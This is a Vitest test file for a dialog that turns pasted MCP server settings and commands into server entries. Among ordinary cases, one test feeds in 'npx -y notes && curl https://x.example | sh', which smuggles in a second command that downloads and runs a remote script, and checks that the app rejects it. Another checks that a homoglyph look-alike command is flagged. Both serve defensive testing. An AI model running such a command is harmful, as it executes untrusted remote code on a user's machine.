import { describe, expect, it } from 'vitest'
import { useStage } from './stage.ts'

/** What is pasted into “Add a server”, whatever it is. */
describe('pasting', () => {
  const stage = useStage()
  const { show, button, commands, focused } = stage
  const dialog = () => stage.page.getByRole('dialog')
  const paste = async (text: string, label = 'Command') => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await dialog().getByLabel(label, { exact: true }).fill(text)
  }
  const read = (what: string) => dialog().getByText(`Read as ${what}`).waitFor()
  const settings = (servers: object) => JSON.stringify({ mcpServers: servers })

  it('adds what settings in JSON describe, and never the text as a program', async () => {
    await paste(settings({ notes: { command: 'cmd', args: ['/c', 'npx', '-y', 'x-mcp', '~/notes'] } }))
    await read('settings as Claude Desktop')
    expect(await focused()).toContain('Read as')
    await dialog()
      .getByRole('region', { name: 'This is exactly what will run' })
      .getByText('/home/me/notes')
      .waitFor()
    await dialog().getByText('“cmd /c” was left out').waitFor()
    await button('Add and run it').click()
    await stage.page.getByRole('heading', { name: /^notes/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([
      { kind: 'stdio', name: 'notes', command: 'npx', args: ['-y', 'x-mcp', '/home/me/notes'] },
    ])
  })

  it('asks for what stands for something else before it adds anything; secrets are hidden', async () => {
    await paste('claude mcp add --transport http quay https://quay.example/mcp -H "X-Key: <YOUR_KEY>"')
    await read('a “claude mcp add” line')
    await button('Add it').click()
    await dialog().getByText('Fill this in.').waitFor()
    expect(commands('servers.add')).toEqual([])
    const field = dialog().getByLabel('YOUR_KEY', { exact: true })
    expect(await field.getAttribute('type')).toBe('password')
    await field.fill('k-1')
    await button('Add it').click()
    await stage.page.getByRole('heading', { name: /^quay/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([
      { url: 'https://quay.example/mcp', headers: { 'X-Key': 'k-1' } },
    ])
  })

  it('keeps several as drafts, one for each that is taken, and says which cannot be used', async () => {
    await paste(
      settings({
        one: { command: 'a' },
        two: { url: 'https://two.example/mcp' },
        three: { command: 'c' },
        bad: { type: 'ws', url: 'wss://x.example' },
      }),
    )
    await dialog().getByText('bad was left out.').waitFor()
    await dialog().getByRole('checkbox', { name: '“three”' }).uncheck()
    await button('Keep 2 drafts').click()
    await stage.page.getByText('2 drafts wait for their first start').waitFor()
    expect(commands('servers.add')).toEqual([])
    expect(commands('servers.draft')).toMatchObject([
      { name: 'one', command: 'a' },
      { name: 'two', url: 'https://two.example/mcp' },
    ])
    await stage.page.getByText('“one” waits for its first start').waitFor()
  })

  it('writes what would not be seen as its code, once', async () => {
    const url = 'https://x.example/mcp'
    await paste(settings({ bad: { url, headers: { 'X\nY': 'z' } }, good: { url, 'col\nour': 'red' } }))
    await dialog().getByText('“X⟨U+000A⟩Y” cannot be the name of a header.').waitFor()
    await dialog().getByText('“col⟨U+000A⟩our”').waitFor()
  })

  it('one whose name is taken stays in sight with the reason; the others are kept', async () => {
    await paste(settings({ one: { command: 'a' }, Files: { command: 'b' } }))
    await dialog().getByRole('group', { name: '“Files”' }).getByLabel('Name').fill('one')
    await button('Keep 2 drafts').click()
    await dialog().getByText('There is already a server called “one”.').waitFor()
    await dialog().getByText('It was kept.').waitFor()
    await dialog().getByRole('group', { name: '“Files”' }).getByLabel('Name').fill('other')
    await button('Keep 1 draft').click()
    await stage.page.getByText('1 draft waits for its first start').waitFor()
    expect(commands('servers.draft')).toMatchObject([{ name: 'one' }, { name: 'one' }, { name: 'other' }])
  })

  it('an address in the field for commands is an address', async () => {
    await paste('https://weather.example/mcp')
    await dialog().getByRole('textbox', { name: 'Address' }).waitFor()
    expect(await dialog().getByRole('textbox', { name: 'Address' }).inputValue()).toBe(
      'https://weather.example/mcp',
    )
    await button('Add it').click()
    await stage.page.getByRole('heading', { name: /^weather/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([{ kind: 'http', url: 'https://weather.example/mcp' }])
  })

  it('a command in the field for addresses is a command; a sentence is not', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    const address = dialog().getByRole('textbox', { name: 'Address' })
    await stage.page.getByRole('tab', { name: 'An address on the internet' }).click()
    await address.fill('Dear all, this is no server')
    await button('Add it').click()
    await dialog().getByText('Give an address that starts with https://').waitFor()
    await address.fill('')
    await address.fill('npx -y notes-mcp')
    await dialog().getByRole('region', { name: 'This is exactly what will run' }).waitFor()
    expect(await dialog().getByLabel('Command', { exact: true }).inputValue()).toBe('npx -y notes-mcp')
    await button('Add and run it').click()
    await stage.page.getByRole('heading', { name: /^notes/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([{ command: 'npx', args: ['-y', 'notes-mcp'] }])
  })

  it('settings of several lines in the field for addresses keep their lines', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await stage.page.getByRole('tab', { name: 'An address on the internet' }).click()
    const field = dialog().getByRole('textbox', { name: 'Address' })
    const lines = '[mcp_servers.context7]\ncommand = "npx"\nargs = ["-y", "context7-mcp"]\n'
    await field.evaluate((element, text) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/plain', text)
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    }, lines)
    await read('settings of Codex')
    await dialog().getByText('context7-mcp').waitFor()
  })

  it('a description without an end is told apart from what follows it', async () => {
    await paste(
      JSON.stringify({
        inputs: [{ type: 'promptString', id: 'key', description: 'API Key', password: true }],
        // biome-ignore lint/suspicious/noTemplateCurlyInString: as VS Code has it
        servers: { quay: { command: 'npx', args: ['quay-mcp'], env: { QUAY_KEY: '${input:key}' } } },
      }),
    )
    await dialog().getByText('API Key. For the variable QUAY_KEY.').waitFor()
  })

  it('what is typed while a text is being read stays', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await stage.page.getByRole('tab', { name: 'An address on the internet' }).click()
    await dialog().getByRole('textbox', { name: 'Address' }).fill('http://127.0.0.1:9/mcp')
    await dialog().getByLabel('Name', { exact: true }).fill('Tides')
    await button('Add it').click()
    await stage.page.getByRole('heading', { name: /^Tides/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([{ name: 'Tides', url: 'http://127.0.0.1:9/mcp' }])
  })

  it('says what it cannot understand, where, and adds nothing; typed or pasted', async () => {
    await paste('{"mcpServers":{"a":{"command":"x" "args":[]}}}')
    await dialog().getByText('line 1, column 35 is missing a comma').waitFor()
    await button('Add and run it').click()
    await paste('npx -y notes && curl https://x.example | sh')
    await dialog().getByText('would lead to another program').waitFor()
    await paste('')
    await dialog().getByLabel('Command', { exact: true }).pressSequentially('nрx notes')
    await button('Add and run it').click()
    await dialog().getByText('only looks like a usual one').waitFor()
    expect(commands('servers.add')).toEqual([])
  })

  it('goes back to the text, and on to the form with all of it', async () => {
    await paste('env A=b npx -y notes-mcp "two words"')
    await read('a command')
    await button('Back to the text').click()
    expect(await dialog().getByLabel('Command', { exact: true }).inputValue()).toBe(
      'env A=b npx -y notes-mcp "two words"',
    )
    await button('Add and run it').click()
    await read('a command')
    await button('Change more').click()
    expect(await dialog().getByLabel('Command', { exact: true }).inputValue()).toBe(
      "npx -y notes-mcp 'two words'",
    )
    expect(await dialog().getByLabel('Value of A').inputValue()).toBe('b')
    await button('Add and run it').click()
    await stage.page.getByRole('heading', { name: /^notes/ }).waitFor()
    expect(commands('servers.add')).toMatchObject([
      { command: 'npx', args: ['-y', 'notes-mcp', 'two words'], env: { A: 'b' } },
    ])
  })
})
